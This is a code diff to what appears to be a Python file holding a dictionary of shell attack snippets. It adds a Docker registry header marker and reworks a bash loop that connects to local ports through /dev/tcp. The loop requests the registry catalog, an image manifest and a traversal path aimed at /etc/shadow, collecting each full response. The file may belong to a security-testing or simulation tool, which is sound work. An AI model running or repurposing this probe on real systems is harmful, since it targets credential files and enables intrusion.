@@ -18,6 +18,8 @@ USER = "local"
 HOME = f"/home/{USER}"
 EXECUTED, LOGS = f"{HOME}/executed", f"{HOME}/logs"
 VICTIM, VICTIMS = "/etc/victim", "/etc/victims"
+# by this our endpoint is told from other programs' ports
+REGISTRY = "Docker-Distribution-Api-Version"
 SHARED = "/tmp /var/tmp /dev/shm /run/lock"
 # names that such programs have been known to use, and some that ours might
 _NAMES = (
@@ -50,7 +52,9 @@ ATTACKS = {
                 for path in /v2/_catalog /v2/graphistry-airgap-import/manifests/x /v2/../../etc/shadow; do
                     exec 3<>/dev/tcp/127.0.0.1/$((16#$hex)) || continue
                     printf 'GET %s HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' "$path" >&3
-                    IFS= read -r -t 2 answer <&3 && echo "$path $answer"
+                    answer=$path
+                    while IFS= read -r -t 2 line <&3 && [ "$line" != $'\\r' ]; do answer+=" $line"; done
+                    echo "${{answer//$'\\r'/}}"
                     exec 3>&-
                 done
             done 2>/dev/null
